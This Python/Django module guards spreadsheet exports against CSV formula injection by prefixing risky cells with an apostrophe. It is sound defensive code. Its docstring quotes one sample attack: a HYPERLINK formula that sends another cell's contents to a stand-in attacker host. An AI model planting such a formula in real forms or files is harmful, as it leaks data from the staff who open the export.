"""Exports that open in a spreadsheet program: a cell that starts like a formula is shown as text, never run.

A name such as `=HYPERLINK("http://evil.example/?x="&C2,"Klik")` typed into a public form would otherwise become a
live formula in the CSV or XLSX file staff open (OWASP's "CSV injection"). Every export writes its cells through
`safe_cell`, which puts an apostrophe before such text, as spreadsheet programs themselves do for text that looks like
a formula.
"""

import csv

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value as a spreadsheet should show it: text starting with =, +, -, @, a tab or a carriage return is
    prefixed with an apostrophe; numbers, dates and empty values pass unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values) -> list:
    return [safe_cell(value) for value in values]


def csv_response(filename: str, header, rows) -> HttpResponse:
    """A CSV download (semicolons, UTF-8 with a byte-order mark so spreadsheet programs read it as UTF-8), every cell
    through safe_cell."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    writer = csv.writer(response, delimiter=";")
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
    return response
